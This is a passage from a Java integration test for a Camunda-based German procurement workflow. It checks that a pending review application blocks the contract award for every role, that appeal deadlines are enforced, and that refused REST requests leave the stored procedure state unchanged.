    void nachpruefungVorDerInformation_keinZuschlagFuerIrgendeineRolle() {
        String bk = "VG-INT-NACHPRUEFUNG";
        String pi = new Ausschreibungslauf(engine).bisZurBieterinformation(bk);
        EngineRest.Antwort antrag = new EngineRest(port, "", "vergabe1", "demo").post("/api/vergaben/" + bk + "/nachpruefungsantrag", Map.of());
        assertThat(antrag.status()).as(String.valueOf(antrag.body())).isEqualTo(204);
        // the stages go on beside the chamber's task
        assertThat(tasks.createTaskQuery().processInstanceId(pi).taskDefinitionKey("UserTask_KammerEntscheidungImVerfahrenErfassen").count()).isOne();
        Task information = tasks.createTaskQuery().processInstanceId(pi).taskDefinitionKey("UserTask_BieterInformieren").singleResult();
        tasks.complete(information.getId(), Map.of("versandart", "ELEKTRONISCH", "schreibenFreigegeben", "JA"));
        job(pi, "ServiceTask_BieterinformationVersenden");
        Job wartefrist = management.createJobQuery().processInstanceId(pi).activityId("TimerEvent_WartefristAbgelaufen").singleResult();
        org.camunda.bpm.engine.impl.util.ClockUtil.setCurrentTime(wartefrist.getDuedate());
        try {
            management.executeJob(wartefrist.getId());
            Task zuschlag = tasks.createTaskQuery().processInstanceId(pi).taskDefinitionKey("UserTask_ZuschlagErteilen").singleResult();
            Map<String, Object> formular = EngineRest.variablen(Map.of("zuschlagVermerk", "Zuschlag nach Ablauf der Wartefrist erteilt."));
            JsonNode meldung = verweigert("vergabe1", "POST", "/task/" + zuschlag.getId() + "/submit-form", formular, 400, bk);
            assertThat(meldung.path("message").asText()).contains("Nachprüfungsantrag ist anhängig", "§ 169 Abs. 1 GWB");
            for (String rolle : List.of("vergabe2", "projektleitung", "ratsbuero", "bewerter1", "ivl", "admin")) {
                verweigert(rolle, "POST", "/task/" + zuschlag.getId() + "/submit-form", formular, 400, bk, 403, 404);
                verweigert(rolle, "POST", "/task/" + zuschlag.getId() + "/complete", formular, 400, bk, 403, 404);
            }
            // operations moving the token past the award task: the domain refuses the award in its service task
            verweigert("admin", "POST", "/process-instance/" + pi + "/modification", Map.of("instructions",
                    List.of(Map.of("type", "startBeforeActivity", "activityId", "ServiceTask_ZuschlagDokumentieren"))), 500, bk, 400, 403);
            assertThat(jdbc.queryForObject("select status from vergabe where business_key = ?", String.class, bk)).isEqualTo("INFORMIERT");
            assertThat(jdbc.queryForObject("select zuschlag_angebot_id from vergabe where business_key = ?", Long.class, bk)).isNull();
            Task kammer = tasks.createTaskQuery().processInstanceId(pi).taskDefinitionKey("UserTask_KammerEntscheidungImVerfahrenErfassen").singleResult();
            assertThat(kammer).isNotNull();

            // rejected today; an appeal one day after its period is refused and changes nothing, one on its last day bars on
            java.time.LocalDate heute = org.camunda.bpm.engine.impl.util.ClockUtil.getCurrentTime().toInstant()
                    .atZone(java.time.ZoneId.of("Europe/Berlin")).toLocalDate();
            tasks.complete(kammer.getId(), Map.of("kammerAktenzeichen", "VK 1-23/21", "kammerEntscheidung", "ANTRAG_ZURUECKGEWIESEN",
                    "kammerEntscheidungZugestelltAm", heute.toString(), "kammerEntscheidungVermerk", "Antrag unbegründet."));
            java.time.LocalDate letzterTag = jdbc.queryForObject("select beschwerdefrist_letzter_tag from vergabe where business_key = ?",
                    java.time.LocalDate.class, bk);
            org.camunda.bpm.engine.impl.util.ClockUtil.setCurrentTime(java.util.Date.from(letzterTag.plusDays(1).atTime(10, 0)
                    .atZone(java.time.ZoneId.of("Europe/Berlin")).toInstant()));
            JsonNode verspaetet = verweigert("vergabe1", "POST", "/api/vergaben/" + bk + "/sofortige-beschwerde",
                    Map.of("eingelegtAm", letzterTag.plusDays(1).toString()), 400, bk);
            assertThat(verspaetet.path("fehler").asText()).contains("Feld 'eingelegtAm'", "verspätet");
            verweigert("bewerter1", "POST", "/api/vergaben/" + bk + "/sofortige-beschwerde", Map.of("eingelegtAm", letzterTag.toString()), 403, bk);
            EngineRest.Antwort beschwerde = new EngineRest(port, "", "vergabe1", "demo").post("/api/vergaben/" + bk + "/sofortige-beschwerde",
                    Map.of("eingelegtAm", letzterTag.toString()));
            assertThat(beschwerde.status()).as(String.valueOf(beschwerde.body())).isEqualTo(204);
            assertThat(tasks.createTaskQuery().processInstanceId(pi).taskDefinitionKey("UserTask_BeschwerdeentscheidungErfassen").count()).isOne();
            assertThat(verweigert("vergabe1", "POST", "/task/" + zuschlag.getId() + "/submit-form", formular, 400, bk).path("message").asText())
                    .contains("aufschiebende Wirkung bis");
        } finally {
            org.camunda.bpm.engine.impl.util.ClockUtil.reset();
        }
    }

    // --- helpers -----------------------------------------------------------------------------------------------

    /**
     * Sends the attack as {@code benutzer} and checks the status (one of {@code status} and {@code auchErlaubt}) and
     * that nothing of the procedure {@code bk} changed; returns the answer's body.
     */
    private JsonNode verweigert(String benutzer, String methode, String pfad, Object body, int status, String bk, int... auchErlaubt) {
        Map<String, Object> vorher = zustand(bk);
        boolean api = pfad.startsWith("/api/");
        EngineRest client = benutzer == null ? EngineRest.anonym(port, api ? "" : "/engine-rest")
                : new EngineRest(port, api ? "" : "/engine-rest", benutzer, "demo");
        EngineRest.Antwort antwort = switch (methode) {
            case "GET" -> client.get(pfad);
            case "PUT" -> client.put(pfad, body);
            default -> client.post(pfad, body == null ? Map.of() : body);
        };
        List<Integer> erwartet = new ArrayList<>(List.of(status));
        Arrays.stream(auchErlaubt).forEach(erwartet::add);
        assertThat(antwort.status()).as(benutzer + " " + methode + " " + pfad + ": " + antwort.body()).isIn(erwartet);
        Map<String, Object> nachher = zustand(bk);
        assertThat(unterschiede(vorher, nachher)).as("geändert nach " + benutzer + " " + methode + " " + pfad).isEmpty();
        return antwort.body();
    }

    /** The parts of the state that differ, before and after. */
    private static List<String> unterschiede(Map<String, Object> vorher, Map<String, Object> nachher) {
        List<String> anders = new ArrayList<>();
        java.util.Set<String> schluessel = new java.util.TreeSet<>(vorher.keySet());
        schluessel.addAll(nachher.keySet());
        for (String k : schluessel) {
            if (!java.util.Objects.equals(vorher.get(k), nachher.get(k))) {
                anders.add(k + ": vorher " + vorher.get(k) + " / nachher " + nachher.get(k));
            }
        }
        return anders;
    }

    /** Everything of the procedure that an attack could change, comparable with equals. */
    private Map<String, Object> zustand(String bk) {
        Map<String, Object> z = new LinkedHashMap<>();
        z.put("Verfahren insgesamt", jdbc.queryForObject("select count(*) from vergabe", Long.class));
        z.put("Prozessinstanzen insgesamt", runtime.createProcessInstanceQuery().count());
        z.put("Batches", management.createBatchQuery().count());
        Long id = jdbc.query("select id from vergabe where business_key = ?", rs -> rs.next() ? rs.getLong(1) : null, bk);
        if (id != null) {
            z.put("vergabe", zeilen("select * from vergabe where id = ?", id));
            for (String tabelle : List.of("angebot", "bewerter", "bewertungsbogen", "vermerk", "lizenzbestellung", "schreiben", "dokument",
                    "wertungsgrundlage", "konsolidierung")) {
                z.put(tabelle, zeilen("select * from " + tabelle + " where vergabe_id = ? order by 1", id));
            }
            z.put("bewertungspunkt", zeilen("select p.* from bewertungspunkt p join bewertungsbogen b on p.bogen_id = b.id "
                    + "where b.vergabe_id = ? order by p.id", id));
            z.put("konsolidierungspunkt", zeilen("select p.* from konsolidierungspunkt p join konsolidierung k on p.konsolidierung_id = k.id "
                    + "where k.vergabe_id = ? order by p.id", id));
        }
        List<ProcessInstance> instanzen = runtime.createProcessInstanceQuery().processInstanceBusinessKey(bk).orderByProcessInstanceId().asc().list();
        List<String> ids = new ArrayList<>();
        for (ProcessInstance pi : instanzen) {
            ids.add(pi.getId());
            z.put("Instanz " + pi.getId(), pi.getProcessDefinitionId() + " ausgesetzt=" + pi.isSuspended() + " " + aktivitaeten(runtime.getActivityInstance(pi.getId())));
            z.put("Jobs " + pi.getId(), management.createJobQuery().processInstanceId(pi.getId()).list().stream()
                    .map(j -> j.getId() + "@" + j.getDuedate() + " retries=" + j.getRetries() + " ausgesetzt=" + j.isSuspended()).sorted().toList());
        }
        if (!ids.isEmpty()) {
            String[] idFeld = ids.toArray(String[]::new);
            z.put("Variablen", runtime.createVariableInstanceQuery().processInstanceIdIn(idFeld).disableCustomObjectDeserialization().list().stream()
                    .map(v -> v.getExecutionId() + "/" + v.getName() + ":" + v.getTypeName() + "=" + v.getValue()).sorted().toList());
            z.put("Externe Aufgaben", externalTasks.createExternalTaskQuery().processInstanceIdIn(idFeld).list().stream()
                    .map(t -> t.getId() + " retries=" + t.getRetries() + " worker=" + t.getWorkerId() + " gesperrt=" + t.getLockExpirationTime()).sorted().toList());
        }
        z.put("Aufgaben", tasks.createTaskQuery().processInstanceBusinessKey(bk).list().stream()
                .map(t -> t.getId() + " " + t.getTaskDefinitionKey() + " " + t.getAssignee()).sorted().toList());
        return z;
    }

    private List<Map<String, Object>> zeilen(String sql, Object... parameter) {
        List<Map<String, Object>> zeilen = jdbc.queryForList(sql, parameter);
        for (Map<String, Object> zeile : zeilen) {
            zeile.replaceAll((spalte, wert) -> wert instanceof byte[] b ? "Bytes#" + Arrays.hashCode(b) + "/" + b.length : wert);
        }
        return zeilen;
    }

    private static String aktivitaeten(ActivityInstance instanz) {
        StringBuilder text = new StringBuilder(instanz.getActivityId());
        if (instanz.getChildActivityInstances().length > 0 || instanz.getChildTransitionInstances().length > 0) {
            text.append('[');
            Arrays.stream(instanz.getChildActivityInstances()).map(IntegritaetRestTest::aktivitaeten).sorted().forEach(a -> text.append(a).append(' '));
            Arrays.stream(instanz.getChildTransitionInstances()).map(t -> "→" + t.getActivityId()).sorted().forEach(a -> text.append(a).append(' '));
            text.append(']');
        }
        return text.toString();
    }

    private List<Map<String, Object>> vermerke(String bk) {
        return jdbc.queryForList("select m.* from vermerk m join vergabe v on m.vergabe_id = v.id where v.business_key = ? order by m.id", bk);
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> mitVariable(Map<String, Object> werte, String name, Object typisiert) {
        Map<String, Object> variablen = new LinkedHashMap<>((Map<String, Object>) EngineRest.variablen(werte).get("variables"));
        variablen.put(name, typisiert);
        return Map.of("variables", variablen);
    }

    private Long bogenId(Task aufgabe) {
        return ((Number) runtime.getVariable(aufgabe.getProcessInstanceId(), "bewertungsbogenId")).longValue();
    }

    private Task bogen(String bewerter) {
        return tasks.createTaskQuery().processInstanceBusinessKey(WERTUNG).taskAssignee(bewerter)
                .taskDefinitionKey("UserTask_BewertungsbogenAusfuellen").orderByTaskId().asc().list().get(0);
    }

    private void job(String instanz, String activityId) {
        management.executeJob(management.createJobQuery().processInstanceId(instanz).activityId(activityId).list().get(0).getId());
    }

    private Task eine(String taskDefinitionKey) {
        return tasks.createTaskQuery().processInstanceBusinessKey(WERTUNG).taskDefinitionKey(taskDefinitionKey).singleResult();
    }

    private void erledigeAlle(String taskDefinitionKey, Map<String, Object> werte) {
        for (Task t : tasks.createTaskQuery().processInstanceBusinessKey(WERTUNG).taskDefinitionKey(taskDefinitionKey).list()) {
            tasks.complete(t.getId(), werte);
        }
    }
}
